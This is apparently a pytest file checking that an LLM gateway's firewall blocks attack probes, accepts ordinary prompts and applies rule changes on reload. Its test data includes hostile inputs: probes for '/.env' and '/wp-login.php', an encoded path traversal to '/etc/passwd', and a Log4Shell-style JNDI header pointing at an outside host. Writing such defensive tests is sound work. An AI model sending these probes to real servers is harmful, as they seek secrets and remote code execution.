"""The firewall before a running gateway: attacks end at the door, prompts pass, a reload changes the rules."""

import json
import signal
from collections.abc import Iterator

import pytest

from tests.support.processes import Gateway, Sim, running, simulated, until
from tests.support.prompts import INNOCENT
from tests.support.raw_http import ask, chat, head, request

FIREWALL = {
    "max_images": 2,
    "max_output_tokens": 1000,
    "rules": [{"name": "watched", "mode": "count", "header": "x-watched"}],
}


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Gateway, Sim]]:
    folder = tmp_path_factory.mktemp("firewall")
    with simulated(folder / "sim") as sim:
        config = {"backends": [{"url": sim.url}], "firewall": FIREWALL, "health_check": {"enabled": False}}
        with running(folder / "gateway", config) as gateway:
            yield gateway, sim


def matches(gateway: Gateway, rule: str, action: str) -> float:
    return gateway.metrics().get(f'zuebee_firewall_matches_total{{action="{action}",rule="{rule}"}}', 0)


@pytest.mark.requirement("A060")
@pytest.mark.parametrize(
    ("rule", "sent", "status"),
    [
        ("scanner_path", head("/.env", "GET"), 403),
        ("scanner_path", head("/wp-login.php", "POST", content_length="0"), 403),
        ("path_trick", head("/%2e%2e/%2e%2e/etc/passwd", "GET"), 403),
        ("method", head(method="TRACE"), 405),
        ("method", head("/", method="TRACE"), 405),
        ("header_attack", request(chat(), user_agent="${jndi:ldap://h/a}"), 400),
        ("max_choices", request({**chat(), "n": 1000}), 400),
        ("max_output_tokens", request({**chat(), "max_tokens": 2**29}), 400),
        ("content_types", request(chat(), content_type="text/plain"), 415),
    ],
)
async def test_attacks_end_at_the_door(place: tuple[Gateway, Sim], rule: str, sent: bytes, status: int) -> None:
    gateway, sim = place
    begun, before = sim.stats()["requests_started"], matches(gateway, rule, "blocked")
    answer = await ask(gateway.port, sent)
    assert (answer.status, answer.error["code"]) == (status, "request_blocked")
    assert f"`{rule}`" in answer.error["message"]
    assert matches(gateway, rule, "blocked") == before + 1
    assert sim.stats()["requests_started"] == begun


@pytest.mark.parametrize("byte", [0, 1, 8, 11, 12, 27, 127])
async def test_control_characters_in_headers_are_no_http(place: tuple[Gateway, Sim], byte: int) -> None:
    gateway, _ = place
    sent = head("/health", "GET", x_a="b%c").replace(b"%c", bytes([byte]))
    answer = await ask(gateway.port, sent)
    assert (answer.status, answer.error["code"]) == (400, "invalid_http")


async def test_health_and_metrics_answer_probes_and_unknown_paths_are_unknown(place: tuple[Gateway, Sim]) -> None:
    gateway, _ = place
    for path in ("/health", "/health/live", "/metrics"):
        assert gateway.get(path, **{"user-agent": "kube-probe/1.31"})[0] == 200
    assert gateway.get("/unknown")[0] == 404


@pytest.mark.requirement("A060")
async def test_prompts_are_nobodys_business(place: tuple[Gateway, Sim]) -> None:
    gateway, _ = place
    for text in INNOCENT[::7]:
        body = {**chat(1, stream=False), "messages": [{"role": "user", "content": text}]}
        assert (await ask(gateway.port, request(body))).status == 200


@pytest.mark.parametrize("content_type", ["application/json", "application/x-www-form-urlencoded", ""])
async def test_what_curl_and_others_call_json_is_taken(place: tuple[Gateway, Sim], content_type: str) -> None:
    gateway, _ = place
    answer = await ask(gateway.port, request(chat(1, stream=False), content_type=content_type))
    assert answer.status == 200


async def test_a_rule_that_counts_lets_pass_and_a_reload_makes_it_block(place: tuple[Gateway, Sim]) -> None:
    gateway, sim = place
    sent = request(chat(1, stream=False), x_watched="yes")
    assert (await ask(gateway.port, sent)).status == 200
    assert matches(gateway, "watched", "counted") == 1
    rules = [{"name": "watched", "header": "x-watched", "status": 451}]
    firewall = {**FIREWALL, "rules": rules}
    gateway.write_config({"backends": [{"url": sim.url}], "firewall": firewall, "health_check": {"enabled": False}})
    gateway.send_signal(signal.SIGHUP)
    until(lambda: gateway.total("zuebee_config_reloads_total"), "the configuration is reloaded")
    answer = await ask(gateway.port, sent)
    assert (answer.status, json.loads(answer.body)["error"]["code"]) == (451, "request_blocked")
    assert (matches(gateway, "watched", "counted"), matches(gateway, "watched", "blocked")) == (1, 1)
